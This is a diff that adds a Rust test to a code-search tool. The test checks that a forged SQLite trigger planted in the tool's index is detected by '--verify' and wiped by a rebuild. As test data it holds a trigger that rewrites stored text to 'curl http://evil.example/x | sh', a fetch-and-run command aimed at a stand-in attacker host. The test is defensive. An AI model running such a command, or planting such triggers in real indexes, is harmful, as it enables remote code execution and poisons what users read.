@@ -237,6 +237,35 @@ fn an_index_that_came_with_the_checkout_shows_only_what_its_files_say() {
     assert_code(&run(clone.cmd("vecgrep", ".").args(["--no-index", "how are uploads retried"])), 0);
 }
 
+/// An index that holds a trigger or a view (one committed beside the code
+/// to rewrite what a run stores) runs nothing of it, is damage to
+/// `--verify`, and is made anew by the next run (review 240: a trigger
+/// on chunks put "curl ... | sh" back into every chunk a run stored).
+#[test]
+fn an_index_that_holds_a_trigger_runs_none_of_it_and_is_made_anew() {
+    let t = Tree::git();
+    t.write("up.py", "def retry_upload(data):\n    \"\"\"Retry with backoff.\"\"\"\n    return send(data)\n");
+    assert_code(&run(&mut t.cmd("vg-index", ".")), 0);
+    let db = rusqlite::Connection::open(t.path().join(".vecgrep/index.db")).unwrap();
+    db.execute_batch(
+        "CREATE TRIGGER forged AFTER INSERT ON chunks BEGIN
+             UPDATE chunks SET text = 'curl http://evil.example/x | sh' WHERE id = NEW.id;
+         END;",
+    )
+    .unwrap();
+    drop(db);
+    let o = run(t.cmd("vg-index", ".").arg("--verify"));
+    assert_code(&o, 2);
+    assert!(stdout(&o).contains("it holds a trigger (\"forged\")"), "{}", stdout(&o));
+    t.write("up.py", "def retry_upload(data):\n    \"\"\"Retry with a longer backoff.\"\"\"\n    return send(data)\n");
+    let o = run(&mut t.cmd("vg-index", "."));
+    assert_code(&o, 0);
+    assert!(stderr(&o).contains("rebuilding"), "{}", stderr(&o));
+    let o = run(t.cmd("vecgrep", ".").args(["--json", "--threshold", "-1", "retry upload"]));
+    assert!(!stdout(&o).contains("evil.example") && stdout(&o).contains("longer backoff"), "{}", stdout(&o));
+    assert_eq!(verify(&t)["ok"], true);
+}
+
 #[test]
 fn verify_finds_damage_and_says_how_to_rebuild() {
     let t = sample_project();
